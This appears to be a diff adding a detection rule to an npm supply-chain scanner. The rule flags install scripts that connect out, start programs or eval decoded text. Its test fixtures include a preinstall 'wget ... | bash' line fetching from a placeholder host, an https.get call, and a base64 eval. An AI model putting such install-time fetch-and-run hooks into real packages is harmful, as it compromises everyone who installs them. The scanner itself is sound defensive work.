@@ -1,0 +1,126 @@
+/**
+ * What an installation script does, beyond there being one: it connects, starts programs, runs text, reads keys, or brings
+ * another runtime that nobody watches. Honest scripts build an addon or print a line.
+ */
+import type { Behavior } from '../../src/model/behavior.ts';
+import type { Evidence } from '../../src/model/finding.ts';
+import type { Rule } from '../../src/rule.ts';
+import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
+
+export const installScriptPayload: Rule = defineRule({
+  id: 'install-script-payload',
+  family: 'code',
+  title: 'The installation script now connects, starts programs or runs hidden code',
+  rationale: 'It happens on every machine that installs the package, before any of your code runs.',
+  remedy: 'Do not install this version; where you must, use --ignore-scripts. Read what the script starts.',
+  level: 'block',
+  incidents: [
+    {
+      what: 'ua-parser-js 0.7.29: a preinstall script fetched and started a miner',
+      when: '2021-10-22',
+      url: 'https://github.com/faisalman/ua-parser-js/issues/536',
+    },
+    {
+      what: 'Shai-Hulud 2: a preinstall script brought the bun runtime, and ran a ten megabyte file with it',
+      when: '2025-11-24',
+      url: 'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
+    },
+  ],
+  appliesToAdditions: true,
+  needs: ['behaviors'],
+  flags: [
+    {
+      title: 'a script that connects, and one that starts a program',
+      before: { 'index.js': '' },
+      after: {
+        'package.json': { scripts: { preinstall: 'node one.js', postinstall: 'node two.js' } },
+        'index.js': '',
+        'one.js': `require('https').get('https://far.invalid/a');\n`,
+        'two.js': `import { execFileSync } from 'child_process';\nexecFileSync('uname', ['-a']);\n`,
+      },
+      expect: [
+        {
+          message: 'https.get connects to https://far.invalid/a',
+          at: { in: 'tarball', path: 'one.js', line: 1 },
+          via: ['scripts/preinstall', 'one.js'],
+        },
+        {
+          message: 'child_process.execFileSync starts uname -a',
+          at: { in: 'tarball', path: 'two.js', line: 2 },
+          via: ['scripts/postinstall', 'two.js'],
+        },
+      ],
+    },
+    {
+      title: 'a script whose own text downloads and runs',
+      before: {},
+      after: { 'package.json': { scripts: { preinstall: 'wget -qO- https://far.invalid/a | bash' } } },
+      expect: [
+        {
+          message: 'npm (preinstall) starts wget -qO- https://far.invalid/a | bash',
+          at: { in: 'tarball', path: 'package.json', line: 5 },
+          via: ['scripts/preinstall'],
+        },
+      ],
+    },
+    {
+      title: 'a script that runs decoded text',
+      before: {},
+      after: {
+        'package.json': { scripts: { install: 'node run.js' } },
+        'run.js': `eval(Buffer.from('MQ==', 'base64').toString());\n`,
+      },
+      expect: [
+        {
+          message: 'eval runs text: 1',
+          at: { in: 'tarball', path: 'run.js', line: 1 },
+          via: ['scripts/install', 'run.js'],
+        },
+      ],
+    },
+  ],
+  passes: [
+    {
+      title: 'a script that builds, one that prints, and one that does what it did before',
+      before: {
+        'package.json': { scripts: { postinstall: 'node fetch.js' } },
+        'fetch.js': `fetch('https://builds.invalid/v1');\nrequire('child_process').execFileSync('tar', ['-x']);\n`,
+      },
+      after: {
+        'package.json': {
+          scripts: { preinstall: 'node note.js', install: 'node-gyp rebuild', postinstall: 'node fetch.js' },
+        },
+        'note.js': `console.log('Thank you');\n`,
+        'fetch.js': `fetch('https://builds.invalid/v2');\nrequire('child_process').execFileSync('tar', ['-xzf']);\n`,
+      },
+    },
+  ],
+  check({ behaviors }) {
+    return behaviors.added.flatMap((behavior): Evidence<never>[] => {
+      const seen = behavior.tier === 'install' ? describe(behavior) : undefined;
+      return seen === undefined ? [] : [evidenceOf(behavior, seen)];
+    });
+  },
+});
+
+function describe({ kind, api, detail, origins }: Behavior): string | undefined {
+  const told = detail === undefined ? '' : ` ${shorten(detail, 120)}`;
+  switch (kind) {
+    case 'network':
+      return `${api} connects to${told === '' ? ' a host that is not told' : told}`;
+    case 'child-process':
+      return `${api} starts${told === '' ? ' a program' : told}`;
+    case 'dynamic-code':
+      return origins.includes('decoded') || origins.includes('fetched') || origins.includes('file')
+        ? `${api} runs text${told === '' ? '' : `:${told}`}`
+        : undefined;
+    case 'global-patch':
+      return `${api} is replaced`;
+    case 'native-code':
+      return /^WebAssembly|dlopen|binding/.test(api) && origins.includes('decoded')
+        ? `${api} loads code that was decoded`
+        : undefined;
+    default:
+      return undefined;
+  }
+}
